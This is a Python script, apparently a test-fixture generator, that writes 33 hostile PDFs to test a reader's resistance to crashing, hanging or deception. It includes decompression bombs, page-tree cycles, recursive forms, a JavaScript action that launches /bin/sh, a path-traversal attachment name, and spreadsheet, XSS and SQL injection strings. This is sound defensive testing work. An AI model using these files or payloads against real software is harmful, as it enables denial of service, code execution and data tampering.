#!/usr/bin/env python3
"""make_hostile.py DIR [--full]: writes 33 PDFs that try to crash, hang, flood or deceive a reader, the same bytes each time.

Each is one idea in a few lines, as the files that do this in the wild are megabytes long and explain nothing. `--full`
makes those whose harm is their size as large as they were when the ideas were found (100,000 pages, a gigabyte of blanks);
without it they are small enough for every run of the tests."""
import os
import pathlib
import sys
import zlib

CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
FLATE = b"/Filter/FlateDecode"


def pdf(objects, trailer=b"", previous=None):
    """A PDF of numbered objects, of which 1 is the catalogue. previous="self" makes its cross-reference table the one before itself."""
    out, starts = bytearray(b"%PDF-1.7\n"), {}
    for number, text in objects.items():
        starts[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    table, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % starts[number] if number in starts else b"0000000000 65535 f \n"
    if previous == "self":
        trailer += b"/Prev %d" % table
    return bytes(out + b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, table))


def stream(data, entries=b""):
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), entries, data)


def page(parent=2, box=b"0 0 612 792", resources=b"/Font<</F1 4 0 R>>"):
    return b"<</Type/Page/Parent %d 0 R/MediaBox[%s]/Contents 5 0 R/Resources<<%s>>>>" % (parent, box, resources)


def says(text):
    return b"BT /F1 12 Tf 72 700 Td (%s) Tj ET" % text


def one_page(drawing, entries=b"", catalogue=CATALOGUE, more=None, trailer=b"", **how):
    objects = {1: catalogue, 2: ONE_PAGE, 3: page(**how), 4: FONT, 5: stream(drawing, entries)}
    return pdf(objects | (more or {}), trailer)


def with_catalogue(entries):
    return CATALOGUE[:-2] + entries + b">>"


def pages(count):
    kids = b" ".join(b"%d 0 R" % (6 + i) for i in range(count))
    objects = {1: CATALOGUE, 2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids), 4: FONT, 5: stream(says(b"page"))}
    return pdf(objects | {6 + i: page() for i in range(count)})


def page_tree(kids, count, more=None):
    objects = {1: CATALOGUE, 2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count), 3: page(), 4: FONT, 5: stream(says(b"one"))}
    return pdf(objects | (more or {}))


def deep_page_tree(depth):
    objects = {1: b"<</Type/Catalog/Pages 6 0 R>>", 3: page(parent=5 + depth), 4: FONT, 5: stream(says(b"deep"))}
    for i in range(depth):
        parent = b"/Parent %d 0 R" % (5 + i) if i else b""
        objects[6 + i] = b"<</Type/Pages/Count 1/Kids[%d 0 R]%s>>" % (7 + i if i < depth - 1 else 3, parent)
    return pdf(objects)


def deflated(piece, times):
    """The piece many times over, compressed without ever standing in memory."""
    packer, out = zlib.compressobj(9), []
    block = piece * max(1, (1 << 20) // len(piece))
    whole, rest = divmod(times, len(block) // len(piece))
    for _ in range(whole):
        out.append(packer.compress(block))
    out.append(packer.compress(piece * rest))
    return b"".join(out) + packer.flush()


def text_bomb(times):
    packer = zlib.compressobj(9)
    body = packer.compress(b"BT /F1 9 Tf 1 0 0 1 20 20 Tm ")
    for _ in range(times // 1000):
        body += packer.compress(b"(AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA) Tj " * 1000)
    return one_page(body + packer.compress(b"ET") + packer.flush(), FLATE)


def form(drawing, inner):
    return stream(drawing, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % inner)


def forms(levels):
    """Each form draws the next ten times: 10 to the power of `levels`."""
    objects = {6 + i: form(b"/X Do " * 10 if i < levels - 1 else b"0 g", 7 + i) for i in range(levels)}
    return one_page(b"/X Do", more=objects, resources=b"/XObject<</X 6 0 R>>")


def javascript():
    action = (b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\(\"http://127.0.0.1:9/\"\\))>>"
              b"/AA<</WC<</S/Launch/F(/bin/sh)>>>>")
    return one_page(says(b"script"), catalogue=with_catalogue(action))


def attachment():
    name = b"../../../../tmp/rapporteur-was-here"
    names = b"/Names<</EmbeddedFiles<</Names[(%s)6 0 R]>>>>" % name
    return one_page(says(b"attached"), catalogue=with_catalogue(names), more={
        6: b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 7 0 R>>>>" % (name, name), 7: stream(b"no library", b"/Type/EmbeddedFile")})


def injection():
    lines = (b"=cmd|' /C calc'!A0", b"<script>alert\\(1\\)</script><img src=x onerror=alert\\(2\\)>",
             b"+1+1 @SUM\\(A1\\) -2+3 \\011=1", b'"; DROP TABLE record; -- javascript:alert\\(3\\) ]]> &lt; \\033[31m')
    drawing = b" ".join(b"BT /F1 12 Tf 72 %d Td (%s) Tj ET" % (700 - 40 * i, line) for i, line in enumerate(lines))
    about = b'<</Title(=HYPERLINK\\("http://x/"&A1\\))/Author(<svg onload=alert\\(4\\)>)>>'
    return one_page(drawing, more={6: about}, trailer=b"/Info 6 0 R")


def expanding_font():
    """One character of the font stands for 16,000."""
    table = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange "
             b"1 beginbfchar <41> <%s> endbfchar endcmap end end" % (b"0041" * 16_000))
    drawing = b"BT /F1 1 Tf 10 10 Td " + (b"(" + b"A" * 600 + b") Tj 0 3 Td ") * 200 + b"ET"
    return one_page(drawing, more={4: FONT[:-2] + b"/ToUnicode 6 0 R>>", 6: stream(table)})


def hostile_files(full=False):
    """(name, bytes) one after the other, as together they are large."""
    fine = one_page(says(b"Hello 19 cases"))
    nest = 1_000_000 if full else 100_000
    yield "fine.pdf", fine
    yield "zero-pages.pdf", pdf({1: CATALOGUE, 2: b"<</Type/Pages/Kids[]/Count 0>>"})
    yield "pages-many.pdf", pages(5_000 if full else 1_000)
    yield "pages-more.pdf", pages(20_000 if full else 5_000)
    yield "pages-too-many.pdf", pages(100_000 if full else 5_001)
    yield "pages-count-lies.pdf", page_tree(b"3 0 R", 2_000_000_000)
    yield "pages-deep.pdf", deep_page_tree(20_000)
    yield "pages-cycle.pdf", page_tree(b"6 0 R", 9, {6: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 6 0 R]/Count 9>>"})
    yield "pages-all-one.pdf", page_tree(b"3 0 R " * 50_000, 50_000)
    yield "xref-before-itself.pdf", pdf({1: CATALOGUE, 2: ONE_PAGE, 3: page(), 4: FONT, 5: stream(says(b"loop"))}, previous="self")
    yield "nested-arrays.pdf", one_page(says(b"nest"), catalogue=with_catalogue(b"/Q " + b"[" * nest + b"]" * nest))
    yield "nested-arrays-drawn.pdf", one_page(b"[" * nest + b"]" * nest + b" TJ")
    blanks = deflated(b" ", 1 << (30 if full else 27))
    yield "blanks.pdf", one_page(blanks, FLATE)
    yield "blanks-twice.pdf", one_page(zlib.compress(blanks, 9), b"/Filter[/FlateDecode/FlateDecode]")
    yield "text-on-one-spot.pdf", text_bomb(3_000_000 if full else 300_000)
    yield "page-huge.pdf", one_page(says(b"big"), box=b"0 0 1000000000 1000000000")
    yield "page-no-number.pdf", one_page(says(b"nan"), box=b"0 0 1e400 -5")
    yield "page-of-no-size.pdf", one_page(says(b"zero"), box=b"0 0 0 0")
    yield "text-far-away.pdf", one_page(b"BT /F1 %d Tf %d 0 0 %d %d %d Tm (far away) Tj ET " % (9**9, 9**9, 9**9, 9**12, 9**12) + says(b"near"))
    yield "form-in-itself.pdf", one_page(b"/X Do " + says(b"x"), more={6: form(b"/X Do /X Do", 6)},
                                        resources=b"/Font<</F1 4 0 R>>/XObject<</X 6 0 R>>")
    yield "forms-without-end.pdf", forms(30)
    yield "script.pdf", javascript()
    yield "attachment-leads-out.pdf", attachment()
    yield "injection.pdf", injection()
    yield "empty.pdf", b""
    yield "half.pdf", fine[:len(fine) // 2]
    yield "program.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\x00\x3e\x00" + b"\x90" * 20_000
    yield "page-of-the-web.pdf", b"<html><script>1</script></html>"
    yield "archive.pdf", b"PK\x03\x04" + b"\0" * 60
    yield "junk-in-front.pdf", b"J" * 2048 + fine
    yield "only-a-head.pdf", b"%PDF-1.7\n"
    yield "nothing-but-zeros.pdf", 64 << 20
    yield "font-expands.pdf", expanding_font()


def write_hostile(folder, full=False):
    """Writes them; a number in place of bytes is a hole of that size. Gives the names."""
    names = []
    for name, content in hostile_files(full):
        with open(pathlib.Path(folder) / name, "wb") as file:
            if isinstance(content, int):
                os.truncate(file.fileno(), content)
            else:
                file.write(content)
        names.append(name)
    return names


if __name__ == "__main__":
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    print(len(write_hostile(sys.argv[1], "--full" in sys.argv[2:])), "files in", sys.argv[1])
